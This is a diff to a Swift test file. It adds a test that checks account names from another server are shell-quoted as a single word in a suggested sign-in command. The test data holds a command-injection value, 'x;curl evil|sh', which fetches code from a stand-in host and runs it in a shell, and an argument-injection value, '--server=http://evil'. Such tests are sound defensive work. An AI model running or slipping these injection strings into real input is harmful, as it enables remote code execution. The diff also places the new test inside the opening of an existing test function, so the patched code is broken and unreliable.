@@ -1,3 +1,5 @@
+import AppCore
+import CommunityDomain
 import Foundation
 import TerminalKit
 import Testing
@@ -57,6 +59,20 @@ import Testing
     }
 
     @Test func `A draft of an older version is only used where that is meant`() async throws {
+    @Test(arguments: [
+        ("민수", "signin 민수"), ("Kim Minsu", "signin 'Kim Minsu'"),
+        ("x;curl evil|sh", "signin 'x;curl evil|sh'"),
+        ("--server=http://evil", "signin -- --server=http://evil"),
+    ])
+    func `What another server calls an account is one word of the suggested command`(
+        name: String, command: String
+    ) {
+        let context = CommandContext(
+            app: .community, console: Transcript().console, language: .english, now: { .distantPast })
+        let place = BoardPlace(server: nil, account: 1, name: name)
+        #expect(context.commandLine("outbox list", at: place) == "community-cli \(command)")
+    }
+
         let app = try await TestApp.signedUp()
         try app.write("Old", to: ".local/share/trellis/community/drafts/default/3.post.md")
         for folder in ["", "/default"] {
